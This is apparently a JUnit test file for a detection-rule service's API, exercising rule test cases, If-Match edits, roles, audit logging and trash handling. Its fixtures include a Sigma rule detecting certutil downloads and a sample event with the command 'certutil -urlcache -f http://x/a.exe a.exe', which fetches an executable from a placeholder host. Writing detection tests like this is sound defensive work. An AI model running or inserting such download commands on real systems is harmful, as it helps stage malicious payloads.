package io.detectionhub.ruletests;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.Map;

import io.detectionhub.security.Role;
import io.detectionhub.testsupport.AppTest;
import io.detectionhub.testsupport.TestApi;
import io.detectionhub.testsupport.TestCredentials;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** A rule's test cases over the API: create, read, run, If-Match on changes, roles, audit, kept in the trash, purged with the rule. */
@AppTest
class RuleTestApiTest {

    static final JsonMapper JSON = JsonMapper.builder().build();
    static final String RULE_ID = "7d1c3e55-0f3b-4c52-9a51-2b9d6b0e7a11";
    static final String RULE = """
            title: Certutil Download For Tests
            id: 7d1c3e55-0f3b-4c52-9a51-2b9d6b0e7a11
            status: test
            logsource: {product: windows, category: process_creation}
            detection:
                selection_img:
                    Image|endswith: '\\\\certutil.exe'
                selection_cli:
                    CommandLine|contains: ['urlcache', 'verifyctl']
                condition: all of selection_*
            level: high
            """;
    static final String HIT = "{\"Image\": \"C:\\\\Windows\\\\System32\\\\certutil.exe\", "
            + "\"CommandLine\": \"certutil -urlcache -f http://x/a.exe a.exe\"}";
    static final String QUIET = "{\"Image\": \"C:\\\\Windows\\\\System32\\\\certutil.exe\", "
            + "\"CommandLine\": \"certutil -hashfile a.exe SHA256\"}";

    @LocalServerPort
    int port;

    @Autowired
    TestCredentials credentials;

    TestApi editor;

    @BeforeEach
    void rule() {
        editor = new TestApi(port, credentials.bearer(Role.EDITOR));
        editor.createRule(RULE);
    }

    /** Each test starts from a rule without cases: a deleted rule keeps them in the trash until it is purged. */
    @AfterEach
    void purgeRule() {
        editor.delete("/api/rules/" + RULE_ID);
        new TestApi(port, credentials.bearer(Role.ADMIN)).delete("/api/trash/" + RULE_ID);
    }

    HttpResponse<String> post(TestApi api, String path, String json) {
        return api.send("POST", path, "application/json", json, Map.of());
    }

    static JsonNode json(HttpResponse<String> r) {
        return JSON.readTree(r.body());
    }

    @Test
    void anEditorAddsAMustMatchAndAMustNotMatchCaseAndBothPass() {
        String tests = "/api/rules/" + RULE_ID + "/tests";
        HttpResponse<String> created = post(editor, tests, "{\"name\": \"downloads\", \"events\": [" + HIT
                + "], \"expectation\": \"match\"}");
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(created.headers().firstValue("ETag")).hasValue("\"1\"");
        long id = json(created).get("id").asLong();
        assertThat(created.headers().firstValue("Location")).hasValue(tests + "/" + id);
        assertThat(json(created).at("/expectation/kind").asString()).isEqualTo("match");
        assertThat(json(created).get("createdBy").asString()).isEqualTo(credentials.keyActor(Role.EDITOR));
        HttpResponse<String> quiet = post(editor, tests, "{\"name\": \"hashes\", \"events\": " + JSON.writeValueAsString(QUIET)
                + ", \"format\": \"ndjson\", \"expectation\": {\"kind\": \"no-match\"}}");
        assertThat(quiet.statusCode()).as(quiet.body()).isEqualTo(201);

        JsonNode list = json(editor.get(tests));
        assertThat(list.size()).isEqualTo(2);
        JsonNode run = json(post(editor, tests + "/run", ""));
        assertThat(run.findValuesAsString("outcome")).containsExactly("passed", "passed");

        HttpResponse<String> duplicate = post(editor, tests, "{\"name\": \"downloads\", \"events\": [" + HIT
                + "], \"expectation\": \"match\"}");
        assertThat(duplicate.statusCode()).isEqualTo(400);
        assertThat(json(duplicate).get("detail").asString()).contains("already has a test case named");
    }

    @Test
    void changesNeedIfMatchAndAFailureIsExplained() {
        String tests = "/api/rules/" + RULE_ID + "/tests";
        long id = json(post(editor, tests, "{\"name\": \"to change\", \"events\": [" + HIT
                + "], \"expectation\": \"match\"}")).get("id").asLong();
        String changed = "{\"name\": \"to change\", \"events\": [" + QUIET + "], \"expectation\": \"match\"}";
        assertThat(editor.send("PUT", tests + "/" + id, "application/json", changed, Map.of()).statusCode())
                .isEqualTo(428);
        HttpResponse<String> stale = editor.send("PUT", tests + "/" + id, "application/json", changed,
                Map.of("If-Match", "\"7\""));
        assertThat(stale.statusCode()).isEqualTo(412);
        assertThat(stale.headers().firstValue("ETag")).hasValue("\"1\"");
        HttpResponse<String> replaced = editor.send("PUT", tests + "/" + id, "application/json", changed,
                Map.of("If-Match", "\"1\""));
        assertThat(replaced.statusCode()).as(replaced.body()).isEqualTo(200);
        assertThat(replaced.headers().firstValue("ETag")).hasValue("\"2\"");

        JsonNode result = json(post(editor, tests + "/run", "")).get(0);
        assertThat(result.get("outcome").asString()).isEqualTo("failed");
        assertThat(result.get("message").asString()).contains("expected at least 1 match, got 0")
                .contains("selection_cli did not match");
        JsonNode item = result.at("/misses/0/searches/1/maps/0/items/0");
        assertThat(item.get("eventValues").get(0).asString()).isEqualTo("certutil -hashfile a.exe SHA256");
        assertThat(item.get("holds").asBoolean()).isFalse();

        assertThat(editor.send("DELETE", tests + "/" + id, null, (String) null, Map.of()).statusCode()).isEqualTo(428);
        assertThat(editor.send("DELETE", tests + "/" + id, null, (String) null, Map.of("If-Match", "\"2\""))
                .statusCode()).isEqualTo(204);
        assertThat(editor.get(tests + "/" + id).statusCode()).isEqualTo(404);

        TestApi admin = new TestApi(port, credentials.bearer(Role.ADMIN));
        JsonNode audit = json(admin.get("/api/admin/audit?action=rule-test.&objectType=rule-test&size=50"));
        assertThat(audit.toString()).contains("rule-test.created").contains("rule-test.replaced")
                .contains("rule-test.deleted").contains(RULE_ID + "/" + id);
    }

    /**
     * The editor's check (the rule editor calls it on every change, before saving): the stored cases run on an edited
     * text; a case that passes now and fails with the edit is flagged, one failing already is not, nothing is stored.
     */
    @Test
    void theEditCheckSaysWhichCasesAnUnsavedEditWouldBreak() {
        String tests = "/api/rules/" + RULE_ID + "/tests";
        assertThat(json(editor.send("POST", tests + "/check", "application/yaml", RULE, Map.of())).isEmpty())
                .as("no cases, nothing to check").isTrue();
        assertThat(post(editor, tests, "{\"name\": \"downloads\", \"events\": [" + HIT
                + "], \"expectation\": \"match\"}").statusCode()).isEqualTo(201);
        assertThat(post(editor, tests, "{\"name\": \"already wrong\", \"events\": [" + QUIET
                + "], \"expectation\": \"match\"}").statusCode()).isEqualTo(201);
        String edited = RULE.replace("['urlcache', 'verifyctl']", "['verifyctl']");

        HttpResponse<String> check = editor.send("POST", tests + "/check", "application/yaml", edited, Map.of());
        assertThat(check.statusCode()).as(check.body()).isEqualTo(200);
        Map<String, JsonNode> byName = new java.util.TreeMap<>();
        json(check).forEach(c -> byName.put(c.at("/testCase/name").asString(), c));
        assertThat(byName).containsOnlyKeys("downloads", "already wrong");
        assertThat(byName.get("downloads").get("passesNow").asBoolean()).isTrue();
        assertThat(byName.get("downloads").at("/withEdit/outcome").asString()).isEqualTo("failed");
        assertThat(byName.get("downloads").get("startsFailing").asBoolean()).isTrue();
        assertThat(byName.get("downloads").at("/withEdit/message").asString())
                .contains("selection_cli did not match");
        assertThat(byName.get("already wrong").get("passesNow").asBoolean()).isFalse();
        assertThat(byName.get("already wrong").get("startsFailing").asBoolean()).isFalse();

        assertThat(editor.get("/api/rules/" + RULE_ID).body()).contains("urlcache");
        assertThat(json(post(editor, tests + "/run", "")).findValuesAsString("outcome"))
                .containsExactlyInAnyOrder("passed", "failed");
        assertThat(new TestApi(port, credentials.bearer(Role.VIEWER)).send("POST", tests + "/check",
                "text/plain", edited, Map.of()).statusCode()).as("a viewer may check too").isEqualTo(200);
    }

    @Test
    void aViewerReadsAndRunsButCannotChange() {
        String tests = "/api/rules/" + RULE_ID + "/tests";
        TestApi viewer = new TestApi(port, credentials.bearer(Role.VIEWER));
        assertThat(post(viewer, tests, "{\"name\": \"v\", \"events\": [" + HIT + "], \"expectation\": \"match\"}")
                .statusCode()).isEqualTo(403);
        assertThat(viewer.get(tests).statusCode()).isEqualTo(200);
        assertThat(post(viewer, tests + "/run", "").statusCode()).isEqualTo(200);
        assertThat(viewer.get("/api/rules/no-such-rule/tests").statusCode()).isEqualTo(404);
    }

    @Test
    void invalidCasesAreRefusedWithTheReason() {
        String tests = "/api/rules/" + RULE_ID + "/tests";
        assertThat(json(post(editor, tests, "{\"name\": \"x\", \"events\": [" + HIT + "], \"expectation\": \"maybe\"}"))
                .get("detail").asString()).contains("match, no-match or alerts");
        assertThat(json(post(editor, tests, "{\"name\": \"\", \"events\": [" + HIT + "], \"expectation\": \"match\"}"))
                .get("detail").asString()).contains("name");
        assertThat(json(post(editor, tests, "{\"name\": \"x\", \"expectation\": \"match\"}")).get("detail")
                .asString()).contains("events");
        HttpResponse<String> broken = post(editor, tests, "{\"name\": \"broken events\", \"events\": \"{not json\", "
                + "\"expectation\": \"match\"}");
        assertThat(broken.statusCode()).isEqualTo(201);
        JsonNode run = json(post(editor, tests + "/run", ""));
        assertThat(run.toString()).contains("\"error\"").contains("The events could not be read");
    }

    @Test
    void theGeneratedStartingPointPassesAndTestsGoWithTheRule() {
        String tests = "/api/rules/" + RULE_ID + "/tests";
        JsonNode generated = json(editor.get(tests + "/generated"));
        assertThat(generated.get("drafts").size()).as(generated.toString()).isEqualTo(2);
        for (JsonNode draft : generated.get("drafts")) {
            assertThat(draft.get("origin").asString()).isEqualTo("generated");
            HttpResponse<String> r = post(editor, tests, "{\"name\": " + JSON.writeValueAsString(draft.get("name"))
                    + ", \"events\": " + JSON.writeValueAsString(draft.get("events").asString()) + ", \"expectation\": "
                    + draft.get("expectation") + ", \"origin\": \"generated\"}");
            assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
        }
        assertThat(json(post(editor, tests + "/run", "")).findValuesAsString("outcome"))
                .containsExactly("passed", "passed");
        editor.delete("/api/rules/" + RULE_ID);
        assertThat(editor.get(tests).statusCode()).as("a rule in the trash has no test cases to show").isEqualTo(404);
        assertThat(editor.send("POST", "/api/trash/" + RULE_ID + "/restore", null, (String) null, Map.of())
                .statusCode()).isEqualTo(201);
        assertThat(json(editor.get(tests)).size()).as("restored with its test cases").isEqualTo(2);
        editor.delete("/api/rules/" + RULE_ID);
        TestApi admin = new TestApi(port, credentials.bearer(Role.ADMIN));
        assertThat(admin.delete("/api/trash/" + RULE_ID).statusCode()).isEqualTo(204);
        editor.createRule(RULE);
        assertThat(json(editor.get(tests)).size()).as("a purged rule's cases are gone").isZero();
    }

    @Test
    void aCorrelationRulesCaseExpectsItsAlerts() {
        String correlation = """
                title: Many failed logons for tests
                id: 5e7a1c2d-3b4f-4a6e-8d9c-0b1a2c3d4e5f
                correlation:
                    type: event_count
                    rules: [failed_logon_for_tests]
                    group-by: [TargetUserName]
                    timespan: 10m
                    condition: {gte: 3}
                level: high
                ---
                title: Failed logon for tests
                name: failed_logon_for_tests
                logsource: {product: windows, service: security}
                detection: {selection: {EventID: 4625}, condition: selection}
                """;
        String id = editor.createRule(correlation);
        String tests = "/api/rules/" + id + "/tests";
        StringBuilder events = new StringBuilder();
        for (int i = 0; i < 3; i++) {
            events.append("{\"EventID\": 4625, \"TargetUserName\": \"bob\", \"@timestamp\": \"2026-01-01T10:0")
                    .append(i).append(":00Z\"}\n");
        }
        events.append("{\"EventID\": 4625, \"TargetUserName\": \"eve\", \"@timestamp\": \"2026-01-01T10:05:00Z\"}\n");
        String body = "{\"name\": \"%s\", \"events\": " + JSON.writeValueAsString(events.toString())
                + ", \"expectation\": {\"kind\": \"alerts\", \"alerts\": [{\"groupBy\": {\"TargetUserName\": "
                + "\"bob\"}, \"count\": %d}]}}";
        assertThat(post(editor, tests, body.formatted("bob thrice", 3)).statusCode()).isEqualTo(201);
        assertThat(post(editor, tests, body.formatted("bob five times", 5)).statusCode()).isEqualTo(201);
        JsonNode run = json(post(editor, tests + "/run", ""));
        assertThat(run.get(0).get("testName").asString()).isEqualTo("bob five times");
        assertThat(run.get(0).get("outcome").asString()).isEqualTo("failed");
        assertThat(run.get(0).get("message").asString()).contains("no alert for {TargetUserName=bob} counting 5");
        assertThat(run.get(1).get("outcome").asString()).as(run.toString()).isEqualTo("passed");
        editor.delete("/api/rules/" + id);
    }
}
